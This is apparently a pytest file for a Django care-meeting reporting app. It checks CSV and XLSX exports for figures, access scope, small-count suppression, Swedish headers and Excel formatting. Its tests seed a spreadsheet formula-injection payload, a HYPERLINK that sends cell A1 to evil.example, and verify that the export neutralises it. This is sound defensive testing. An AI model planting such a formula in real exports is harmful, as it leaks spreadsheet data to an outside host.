"""CSV and XLSX exports: they stream, open, carry the figures, stay within what the
organisation may see, and never start a formula."""

import csv
import datetime as dt
import io
import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from django.http import StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from meetings.models import Meeting, Participant
from participants.models import AccessLog, Role
from reports import exports, tallies
from reports.figures import Period
from reports.selectors import STEERING_GROUP, meetings_for_export

from ..factories import MembershipFactory, OrganisationFactory
from ..reports_data import make_meeting, report_area, seed_000_meetings

pytestmark = pytest.mark.django_db

MARCH = {"date_from": "2026-03-01", "date_to": "2026-03-31"}
COL = {key: i for i, key in enumerate(exports.MEETING_COLUMN_KEYS)}
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")'


@pytest.fixture
def rarea():
    area = report_area()
    seed_000_meetings(area, dt.date(2026, 3, 2))
    make_meeting(
        area,
        state=Meeting.State.CANCELLED,
        initiated=dt.date(2026, 3, 3),
        ended=dt.date(2026, 3, 5),
        cancel_reason=EVIL,
    )
    return area


@pytest.fixture
def manager(rarea):
    return MembershipFactory(organisation=rarea.health_care, role=Role.MANAGER).user


def _export(client, what, fmt, **params):
    tallies.fold()
    response = client.get(reverse("reports:export", args=[what, fmt]), {**MARCH, **params})
    assert response.status_code == 200, response.status_code
    assert isinstance(response, StreamingHttpResponse)
    return response, b"".join(response.streaming_content)


def _csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_figures_csv_streams_and_contains_the_figures(rarea, manager, login):
    response, body = _export(login(manager), "figures", "csv")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _csv(body)
    by_key = {row[2]: row[1] for row in rows if len(row) == 3}
    assert by_key["meetings_held"] == "8"
    assert float(by_key["mean_cost_sek"]) == pytest.approx(3823.96, abs=0.01)
    assert round(float(by_key["municipal_cost_share"]) * 100) == 34
    assert by_key["meetings_cancelled"] == "1"


def test_figures_xlsx_opens_with_a_sheet_per_table(rarea, manager, login):
    _response, body = _export(login(manager), "figures", "xlsx")
    workbook = load_workbook(io.BytesIO(body), read_only=True)
    assert len(workbook.sheetnames) > 10
    summary = {
        row[2]: row[1]
        for row in workbook.worksheets[0].iter_rows(values_only=True)
        if len(row) >= 3 and row[2]
    }
    assert summary["meetings_held"] == 8
    assert summary["mean_cost_sek"] == pytest.approx(3823.96, abs=0.01)


def test_meetings_csv_one_row_per_visible_meeting_and_no_formula(rarea, manager, login):
    _response, body = _export(login(manager), "meetings", "csv")
    rows = _csv(body)
    header, data = rows[0], rows[1:]
    assert header == exports.meeting_columns()
    assert len(data) == 9
    cancelled = next(r for r in data if r[COL["cancel_reason"]].strip())
    assert cancelled[COL["cancel_reason"]] == "'" + EVIL
    costs = [float(r[COL["cost_sek"]]) for r in data if r[COL["cost_sek"]]]
    assert sum(costs) / len(costs) == pytest.approx(3823.96, abs=0.01)
    # No names or personal identity numbers in the rows.
    flat = body.decode("utf-8-sig")
    for meeting in Meeting.objects.select_related("person"):
        assert meeting.person.personnummer not in flat
        assert meeting.person.last_name not in flat or meeting.person.last_name == "Öberg"
    assert (
        AccessLog.objects.filter(
            action=AccessLog.Action.EXPORT, object_type="reports.meetings"
        ).count()
        == 1
    )


def test_meetings_xlsx_keeps_the_formula_as_text(rarea, manager, login):
    _response, body = _export(login(manager), "meetings", "xlsx")
    workbook = load_workbook(io.BytesIO(body))
    sheet = workbook.active
    assert [c.value for c in sheet[1]] == exports.meeting_columns()
    column = COL["cancel_reason"] + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    evil = next(c for c in cells if c.value)
    assert evil.data_type == "s"
    assert evil.value == "'" + EVIL
    assert sheet.max_row == 10


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(text):
    assert exports.neutralise(text) == "'" + text
    assert exports.neutralise("Personen är på sjukhus") == "Personen är på sjukhus"
    assert exports.neutralise(-1) == -1  # numbers stay numbers


def test_export_is_limited_to_what_the_organisation_may_see(rarea, login):
    """A meeting the home-help provider took part in, after which the person withdrew
    consent to share, is not in its export; the initiating health care unit keeps it."""
    hh, hc = rarea.home_help, rarea.health_care
    withdrawn = make_meeting(
        rarea,
        initiated=dt.date(2026, 3, 1),
        held=dt.date(2026, 3, 20),
        staff=[(rarea.contacts[0], hh, Role.CONTACT_PERSON, True, "")],
    )
    Meeting.objects.filter(pk=withdrawn.pk).update(shared=False)
    period = Period(dt.date(2026, 3, 1), dt.date(2026, 3, 31))
    assert withdrawn not in meetings_for_export(hh, period)
    assert withdrawn in meetings_for_export(hc, period)
    other = report_area("Annan ")
    make_meeting(other, initiated=dt.date(2026, 3, 1), held=dt.date(2026, 3, 10))
    assert meetings_for_export(hc, period).count() == 10


def test_exports_refused_outside_the_scope(rarea, manager, login):
    outsider = MembershipFactory(organisation=OrganisationFactory(), role=Role.MANAGER).user
    steering = MembershipFactory(organisation=rarea.assessment, role=STEERING_GROUP).user
    url = reverse("reports:export", args=["meetings", "csv"])
    params = {**MARCH, "organisation": rarea.health_care.pk}
    assert login(outsider).get(url, params).status_code == 404
    assert login(rarea.nurses[0]).get(url, params).status_code == 404
    # The steering group gets figures, never meeting rows.
    assert login(steering).get(url, params).status_code == 404
    assert login(steering).get(url, MARCH).status_code == 404
    assert (
        login(manager).get(reverse("reports:export", args=["meetings", "pdf"]), MARCH).status_code
        == 404
    )
    assert (
        login(manager).get(reverse("reports:export", args=["persons", "csv"]), MARCH).status_code
        == 404
    )


def test_steering_group_figures_export_is_suppressed(rarea, login):
    steering = MembershipFactory(organisation=rarea.assessment, role=STEERING_GROUP).user
    _response, body = _export(
        login(steering), "figures", "csv", date_from="2026-03-02", date_to="2026-03-05"
    )
    by_key = {row[2]: row[1] for row in _csv(body) if len(row) == 3}
    assert by_key["meetings_held"] == "<5"


def test_meeting_rows_generator_reads_in_chunks(rarea, django_assert_num_queries):
    """The generator the benchmark calls: rates (2 queries), the meetings (1), and the
    staff and reasons of each chunk of meetings (2 per chunk), in one transaction
    (savepoint, release, and on PostgreSQL JIT off: 2 or 3)."""
    from django.db import connection

    period = Period(dt.date(2026, 3, 1), dt.date(2026, 3, 31))
    meetings = meetings_for_export(rarea.health_care, period)
    transaction = 3 if connection.vendor == "postgresql" else 2
    with django_assert_num_queries(2 + 1 + 2 * 3 + transaction):
        rows = list(exports.meeting_rows(meetings, rarea.health_care, chunk_size=3))
    assert len(rows) == 10  # header + 9
    assert len(rows[1]) == len(rows[0])


def test_report_command_prints_json(rarea):
    out = StringIO()
    call_command(
        "report", "--from", "2026-03-01", "--to", "2026-03-31", "--format", "json", stdout=out
    )
    data = json.loads(out.getvalue())
    for key in (
        "meetings_held",
        "mean_cost_sek",
        "municipal_cost_share",
        "decisions_implemented_share",
    ):
        assert key in data
    assert data["meetings_held"] == 8
    assert data["mean_cost_sek"] == pytest.approx(3823.96, abs=0.01)
    assert round(data["municipal_cost_share"], 2) == 0.34
    assert data["tables"]["attendance"]


def test_report_command_refuses_bad_dates():
    with pytest.raises(CommandError):
        call_command("report", "--from", "2026-13-01", "--to", "2026-03-31", stdout=StringIO())
    with pytest.raises(CommandError):
        call_command("report", "--from", "2026-03-31", "--to", "2026-03-01", stdout=StringIO())


def test_participants_relatives_present_in_the_row(rarea, manager, login):
    _response, body = _export(login(manager), "meetings", "csv")
    rows = _csv(body)
    relatives = sorted(
        int(r[COL["relatives_present"]]) for r in rows[1:] if r[COL["relatives_present"]]
    )
    assert relatives == [0, 1, 1, 1, 1, 2, 2, 3]
    assert Participant.objects.filter(kind="relative").count() == 11


def test_every_export_header_is_in_the_readers_language(rarea, manager, login):
    """The headers of both exports, as a Swedish and as an English manager downloads them:
    each one translated (a header missing from the Swedish catalogue fails here)."""
    from pathlib import Path

    import polib
    from django.conf import settings

    client = login(manager)
    headers = {}
    for language in ("sv", "en"):
        client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
        headers[language] = _csv(_export(client, "meetings", "csv")[1])[0]
    po = polib.pofile(str(Path(settings.BASE_DIR) / "locale/sv/LC_MESSAGES/django.po"))
    swedish = {e.msgid: e.msgstr for e in po if e.translated() and "fuzzy" not in e.flags}
    from django.utils import translation

    with translation.override("en"):
        english = [str(label) for _key, label in exports.MEETING_COLUMNS]
    assert headers["en"] == english
    assert headers["sv"] == [swedish[msgid] for msgid in english]
    assert "Mötesdatum" in headers["sv"] or "Datum för mötet" in headers["sv"], headers["sv"]


def test_the_csv_for_swedish_excel_has_semicolons_and_decimal_commas(rarea, manager, login):
    client = login(manager)
    _response, body = _export(client, "meetings", "excel-csv")
    assert body.startswith("\ufeff".encode())  # Excel reads å, ä, ö
    text = body.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][COL["meeting_date"]] == "Mötesdatum"
    costs = [r[COL["cost_sek"]] for r in rows[1:] if r[COL["cost_sek"]]]
    assert costs and all("," in c and "." not in c for c in costs if not c.isdigit())
    mean = sum(float(c.replace(",", ".")) for c in costs) / len(costs)
    assert mean == pytest.approx(3823.96, abs=0.01)
    cancelled = next(r for r in rows[1:] if r[COL["cancel_reason"]].strip())
    assert cancelled[COL["cancel_reason"]] == "'" + EVIL  # still never a formula
    # The figures too, and the dashboard says which CSV is which.
    _response, figures = _export(client, "figures", "excel-csv")
    assert ";" in figures.decode("utf-8-sig").splitlines()[0]
    page = client.get(reverse("reports:dashboard"), MARCH).content.decode()
    assert "CSV för Excel" in page and "CSV för program" in page


def test_the_plain_csv_is_rfc_4180_for_programs(rarea, manager, login):
    client = login(manager)
    _response, body = _export(client, "meetings", "csv")
    assert not body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"))))
    costs = [r[COL["cost_sek"]] for r in rows[1:] if r[COL["cost_sek"]]]
    assert all("," not in c for c in costs)
    assert body.count(b"\r\n") == len(rows)
